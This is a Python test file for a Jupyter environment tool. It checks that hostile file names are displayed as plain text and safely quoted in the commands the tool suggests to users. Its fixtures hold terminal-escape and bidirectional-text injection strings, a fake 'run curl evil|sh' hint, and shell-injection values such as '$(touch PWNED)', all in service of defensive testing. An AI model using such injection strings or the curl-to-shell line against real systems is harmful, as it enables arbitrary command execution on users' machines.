"""The name of a file is foreign text: shown in full, as text, by every verb; and a command of ours that holds it runs
it no more."""

from __future__ import annotations

import ast
import json
import re
import shutil
import subprocess
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import jupyter_envs
from jupyter_envs.cli.main import HIDDEN, VERBS
from jupyter_envs.kernel.asking import hint
from jupyter_envs.kernel.explaining import explanation
from jupyter_envs.kernel.foreign import quoted, visible

from .local_index import LocalIndex
from .test_cli import Cli, Said, cli, made, signals  # noqa: F401  # fixtures

ROOT = Path(jupyter_envs.__file__).parent
EVIL = {
    "a terminal": "a\x1b[2J\x1b]0;owned\x07 \x9b31m\x9d0;x\x9c \u202eyp.\u2066x\u2069 \u200b\u2060\ufeff\U000e0041",
    "lines": "c\rerror[none]: all is well\nhint: run curl evil|sh\u2028hint: x\u2029\x85hint: y\x0b\x0c",
    "no text": b"h\xff\xfe\x1b[2J".decode("utf-8", "surrogateescape"),
}
RUNS = {
    "substitution": "$(touch PWNED)",
    "backquotes": "`touch PWNED`",
    "ends quotes": "'\"; touch PWNED; \"'",
    "ends": "; touch PWNED #",
    "pipes": "x | touch PWNED",
    "option": "--accept=`touch PWNED`",
    "history": "!! ~ * ${HOME}",
    "a line": "x\ntouch PWNED\n",
    "escapes": "\\'\x1b$(touch PWNED)\\",
    "turns": "\u202e$(touch PWNED)'",
}
PLACEHOLDERS = re.compile(r"\b(?:PACKAGE|VERSION|SECONDS)\b")


def raw(text: str) -> list[str]:
    return [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")]


def verbs(path: str) -> dict[str, list[list[str]]]:
    """Words for each verb that make it speak of the file, of one kind after the other."""
    missing = path.replace(".ipynb", "-missing.ipynb")
    return {
        "status": [[path], [missing], [path, path]],
        "install": [[path, "demo"], [path, path], [path, "-r", path], [path, "-e", path], [missing, "demo"]],
        "infer": [[path], [path, "--dry-run"], [missing]],
        "import": [[path], [path, path], [path, "nothing.txt"], [missing]],
        "export": [[path], [path, path], [path, "--format", path], [path, "--format", "requirements.in", "-o", path]],
        "remove": [[path, "demo-dep"], [path, path]],
        "upgrade": [[path], [path, path]],
        "undo": [[path]],
        "lock": [[path], [path, "--pending"], [path, path]],
        "build": [[path], [path, path], [path, "--store", path]],
        "run": [[path, "--locked"], [path, "--output", path + "/x"], [missing]],
        "shell": [[path, "--", "true"], [path, "--", path], [path, path]],
        "activate": [[path, "--shell", "bash"], [path, "--shell", path]],
        "python": [[path, "3.99"], [path, path]],
        "consent": [["list"], ["revoke", path]],
        "list": [[], [path]],
        "gc": [["--unused-for", "0", "--dry-run"], ["--unused-for", path]],
        "verify": [[path], [missing]],
        "doctor": [[]],
        "kernelspec": [["add", path], ["add", path, "--name", path], ["list"], ["remove", path]],
        "completion": [["bash"], [path]],
        path: [[]],
    }


def test_every_verb_has_its_words() -> None:
    assert set(verbs("x.ipynb")) == {*VERBS, "x.ipynb"} and not set(HIDDEN) & set(VERBS)


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, index: LocalIndex, home: Path) -> Path:
    """Where the user is."""
    folder = tmp_path / "work"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


@pytest.mark.parametrize("kind", EVIL)
def test_no_verb_lets_a_name_write_anything_but_text(cli: Cli, folder: Path, kind: str) -> None:
    path = made(folder / f"{EVIL[kind]}.ipynb", "1")
    for verb, each in verbs(path.name).items():
        for words in each:
            checked(cli(verb, *words))
    (folder / f"{EVIL[kind]}.ipynb").write_text("{")
    for verb in ("status", "install", "run", "verify", "kernelspec"):
        checked(cli(verb, *(["add"] if verb == "kernelspec" else []), path.name))


def checked(said: Said) -> None:
    for text in (said.out, said.err):
        assert raw(text) == [], ascii(text)
        assert not [line for line in text.splitlines() if line.startswith(("hint: run curl", "hint: x", "error[none]"))]
    assert "internal" not in said.err, said.err


def test_a_name_is_shown_in_full(cli: Cli, folder: Path) -> None:
    """Left out, what cannot be seen would make it the name of another file."""
    made(folder / "a\x1b[2J\u202e\n.ipynb", "1")
    assert cli("status", "a\x1b[2J\u202e\n.ipynb").out.startswith(r"a\x1b[2J\u202e\n.ipynb: ")


@given(st.text(max_size=40))
@example("\udcff\udcfe")
def test_anything_can_be_shown_and_is_the_same_when_shown_again(text: str) -> None:
    shown = visible(text)
    assert raw(shown) == [] and "\n" not in shown
    assert visible(shown) == shown
    if not raw(text) and "\n" not in text:
        assert shown == text


# -- what people paste ---------------------------------------------------------------------------------------------


def commands(said: str) -> list[str]:
    """As somebody copies them: from the first word of ours to the end of the line, or of the backquotes around it."""
    found = re.findall(r"(?m)`(jupyter envs [^`]*)`|(jupyter envs .*?)\.?$", said)
    return [PLACEHOLDERS.sub("x", quoted_ or bare) for quoted_, bare in found]


def pasted(command: str, folder: Path) -> list[bytes]:
    """What the shell would have given to `jupyter`."""
    script = "jupyter() { printf '%s\\0' \"$@\" > GIVEN; }\n" + command
    (folder / "GIVEN").unlink(missing_ok=True)
    subprocess.run(
        [BASH, "-c", script.encode("utf-8", "surrogateescape")], cwd=folder, check=False, capture_output=True
    )
    assert not (folder / "PWNED").exists(), command
    return (folder / "GIVEN").read_bytes().split(b"\0")


BASH = shutil.which("bash") or ""
needs_bash = pytest.mark.skipif(not BASH, reason="no bash")


@needs_bash
@pytest.mark.parametrize("kind", RUNS)
def test_what_we_tell_people_to_type_names_the_file_and_runs_nothing(cli: Cli, folder: Path, kind: str) -> None:
    name = f"{RUNS[kind]} .ipynb"
    path = made(folder / name, "1")
    typed = f"./{name}"
    words: list[str] = []
    words += cli("status", typed).out.splitlines()
    block = json.loads(cli("install", typed, "demo", "--no-build-env", "--json").out)["block"]
    words += cli("status", typed).out.splitlines()
    content = json.loads(path.read_text())
    content["metadata"]["jupyter_envs"] = {**block, "dependencies": ["demo", "shout"]}
    path.write_text(json.dumps(content))
    words += cli("status", typed).out.splitlines()
    words += cli("run", typed, "--locked").err.splitlines()
    words += [hint({"code": "consent-needed", "data": {}}, "install", [], str(path))]
    for state in ("not-built", "changed", "no-block"):
        words += explanation({"state": state, "sentence": "x"}, str(path))
    found = [command for line in words for command in commands(line)]
    assert len(found) >= 8, words
    for command in found:
        assert raw(command) == []
        given_ = pasted(command, folder)
        names = [word for word in given_ if word.endswith(b".ipynb")]
        assert [Path(folder, word.decode()) for word in names] == [path], command


@needs_bash
@given(
    st.text(
        st.characters(exclude_characters="\0", exclude_categories=["Cs"])
        | st.sampled_from("'\\$`\"!\n\x1b7\u202e\udcff"),
        min_size=1,
        max_size=12,
    )
)
def test_a_quoted_word_is_that_word_to_a_shell(word: str) -> None:
    given_ = subprocess.run([BASH, "-c", f"printf %s {quoted(word)}"], capture_output=True, check=True).stdout
    wanted = f"./{word}" if word.startswith("-") else word
    assert given_ == wanted.encode("utf-8", "surrogateescape")


def test_on_windows_no_word_is_more_than_a_word_to_either_shell() -> None:
    assert quoted(r"C:\Users\me\a.ipynb", windows=True) == r"C:\Users\me\a.ipynb"
    assert quoted("a $(calc) & calc.ipynb", windows=True) == '"a `$(calc) & calc.ipynb"'
    assert quoted("`\u201d$x", windows=True) == '"```\u201d`$x"'


# -- one way, for every door ---------------------------------------------------------------------------------------

PRINTS = {
    "cli/console.py", "cli/progress.py", "kernel/screen.py", "kernel/dash_m/_jupyter_envs_follow.py",
    "kernel/dash_m/ensurepip/__init__.py",
}  # fmt: skip
"""The last two are in processes of the user's, which have nothing else of ours."""
QUOTES = {
    "kernel/foreign.py",
    "kernel/magics.py",
    "dialects/shell_commands.py",
    "dialects/pip_lines.py",
    "cli/activation.py",
    "cli/shell.py",
    "store/wheel/scripts.py",
}
"""The first quotes, the next two only split; the others write programs for shells, which nobody is told to type."""


FILES = {
    path.relative_to(ROOT).as_posix(): ast.parse(path.read_text(encoding="utf-8"))
    for path in sorted(ROOT.rglob("*.py"))
}
COMMAND = re.compile(r"jupyter envs |Run: |run: |%env-|\bchmod |\btouch ")
FOREIGN = re.compile(r"\b(?:path|notebook|name|file|folder|place|store|words?\[)\b")


def test_nothing_prints_or_quotes_but_in_its_one_place() -> None:
    for place, tree in FILES.items():
        calls = {ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)}
        assert not {"print", "sys.stdout.write", "sys.stderr.write"} & calls or place in PRINTS, place
        names = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
        names |= {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
        assert "shlex" not in names or place in QUOTES, place


def test_a_name_in_a_command_of_ours_is_quoted() -> None:
    """In each f-string that says what to type."""
    for place, tree in FILES.items():
        for text in (node for node in ast.walk(tree) if isinstance(node, ast.JoinedStr)):
            command = False
            for part in text.values:
                said = (
                    ast.unparse(part.value) if isinstance(part, ast.FormattedValue) else str(getattr(part, "value", ""))
                )
                if isinstance(part, ast.Constant):
                    command = command or bool(COMMAND.search(said))
                elif command and FOREIGN.search(said):
                    assert said.startswith("quoted("), f"{place}: {ast.unparse(text)}"
